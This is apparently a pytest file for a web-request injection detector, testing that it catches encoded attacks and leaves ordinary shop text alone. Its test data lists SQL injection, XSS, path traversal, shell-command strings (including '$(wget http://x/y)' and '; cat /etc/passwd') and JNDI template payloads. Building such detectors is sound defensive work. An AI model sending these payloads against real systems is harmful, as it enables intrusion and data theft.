"""Injected code is found through its encodings, ordinary shop text is left alone; figures on public corpora hold."""

from __future__ import annotations

import gzip
import os
import re
from pathlib import Path
from urllib.parse import quote, unquote_plus

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.desks.attack.injection import judge_request, judge_text, plain

DATA = Path(os.environ.get("TOCSIN_DATA", str(Path(__file__).parents[3] / "shared" / "data")))

ATTACKS = {
    "sqli": [
        "1' or '1'='1",
        "-1 union select null,null--",
        "1;drop table users",
        "1 and sleep(5)",
        "' || (select 1)--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(1)",
    ],
    "traversal": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "file:///etc/passwd", "....//....//boot.ini"],
    "command": ["; cat /etc/passwd", "| id", "$(wget http://x/y)", "() { :;}; /bin/bash -c id", "127.0.0.1 && whoami"],
    "template": ["${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}", "{{7*7}}", "<%= system('id') %>"],
}
ORDINARY = [
    "red shoes 9\"", "O'Connor & Sons", "select your size", "union jack flag", "1/4\"-1/2\" wide ribbon",
    "black or white?", "drop earrings", "script font stamp", "it is 5 o'clock", "C++ and C# books", "order by mail",
    "手机壳 and 充电宝", "¥1,299.00", "https://shop.example.com/p?id=1&x=2", "user@example.com", "50% off!", "a=b;c=d",
    "utm_campaign=Feed:+shop/main+(Jane Doe)", "/search?q=caf%C3%A9+au+lait",
]  # fmt: skip
PAIRS = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]


@pytest.mark.parametrize(("kind", "text"), PAIRS)
def test_each_class_is_found_plain_encoded_and_doubly_encoded(kind: str, text: str) -> None:
    for form in (text, quote(text), quote(quote(text))):
        assert judge_text(form).kind == kind or (judge_text(form).kind and kind in ("command", "template", "traversal"))
        assert judge_request(f"/search?page=2&q={quote(form)}").kind


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_of_a_shop_is_left_alone(text: str) -> None:
    assert not judge_text(text).kind and not judge_request(f"/search?q={quote(text)}").kind


def test_other_letters_for_the_same_code_change_nothing() -> None:
    assert judge_text("＜script＞alert(1)＜/script＞").kind == "xss"
    assert judge_text("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd").kind == "traversal"
    assert judge_text("\\u003cscript\\u003ealert(1)").kind == "xss"
    assert judge_text("1/**/union/**/select/**/1").kind == "sqli"


def test_bodies_paths_and_agents_are_looked_at_too() -> None:
    assert judge_request("/login", "user=a&password=1' or '1'='1").kind == "sqli"
    assert judge_request("/a/..%2f..%2fetc/passwd").kind == "traversal"
    assert judge_request("/", None, "() { :;}; echo vulnerable").kind == "command"
    assert judge_request("/", None, "${jndi:ldap://x/a}").kind == "template"
    assert not judge_request("/", None, "Opera/9.80 (MTK; Opera Mini/2.1; U; id) Presto/2.8").kind


def test_many_values_cost_no_more_than_a_bounded_number_of_looks_and_hide_nothing() -> None:
    padded = "/?" + "&".join(f"a{number}=1" for number in range(300))
    assert not judge_request(padded).kind
    assert judge_request(padded + "&q=1' or '1'='1").kind == "sqli"


@given(st.text(max_size=300))
def test_any_text_is_judged_without_an_error(text: str) -> None:
    assert 0.0 <= judge_text(text).score < 1.0 and isinstance(plain(text), str)


@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789 -_.,", max_size=60))
def test_words_and_numbers_are_never_an_attack_by_their_characters_alone(text: str) -> None:
    words = re.findall(r"[a-z]{2,}", text)
    if not {"select", "union", "or", "and", "etc"} & set(words) and "--" not in text and ".." not in text:
        assert judge_text(text).weight < 2.0


def corpus(name: str) -> Path:
    path = DATA / name
    if not path.exists():
        pytest.skip(f"{name} is not there; set TOCSIN_DATA to the folder of data sets")
    return path


def share(texts: list[str], step: int = 1) -> float:
    some = texts[::step]
    return sum(bool(judge_text(text).kind) for text in some) / len(some)


def test_http_params_recall_by_class_and_no_false_alarm() -> None:
    table = pl.read_parquet(corpus("http-params/train.parquet"))
    of = {kind: table.filter(pl.col("attack_type") == kind)["payload"].to_list() for kind in ("norm", "sqli", "xss")}
    assert share(of["norm"], 3) <= 0.0005
    assert share(of["sqli"], 15) >= 0.99 and share(of["xss"]) >= 0.95


def test_libinjection_recall_and_false_alarms() -> None:
    table = pl.read_parquet(corpus("libinjection-corpus/samples.parquet"))
    of = {
        kind: [
            unquote_plus(text, errors="replace") for text in table.filter(pl.col("kind") == kind)["payload_urlencoded"]
        ]
        for kind in ("sqli", "xss", "benign")
    }
    assert share(of["sqli"], 15) >= 0.96 and share(of["xss"], 2) >= 0.98 and share(of["benign"]) <= 0.05


def test_waf_payloads_recall_and_look_alikes() -> None:
    table = pl.read_parquet(corpus("waf-payloads/payloads.parquet"))
    for kind, least in {"sqli": 0.95, "xss": 0.99, "traversal": 0.99, "cmdexe": 0.91, "log4shell": 0.98}.items():
        attacks = table.filter((pl.col("category") == kind) & (pl.col("label") == 1))["payload"].to_list()
        assert share(attacks, max(1, len(attacks) // 300)) >= least, kind
    assert share(table.filter(pl.col("label") == 0)["payload"].to_list()) <= 0.05


def test_a_real_access_log_raises_next_to_nothing() -> None:
    path = corpus("real-access-logs/apache_access.log.gz")
    with gzip.open(path, "rt", errors="replace") as lines:
        found = [re.search(r'"\S+ (\S+) HTTP[^"]*".*"([^"]*)"$', line.strip()) for line in lines]
    requests = [(match[1], match[2]) for match in found[::3] if match]
    flagged = sum(bool(judge_request(path, None, agent).kind) for path, agent in requests)
    assert len(requests) > 2000 and flagged <= 2
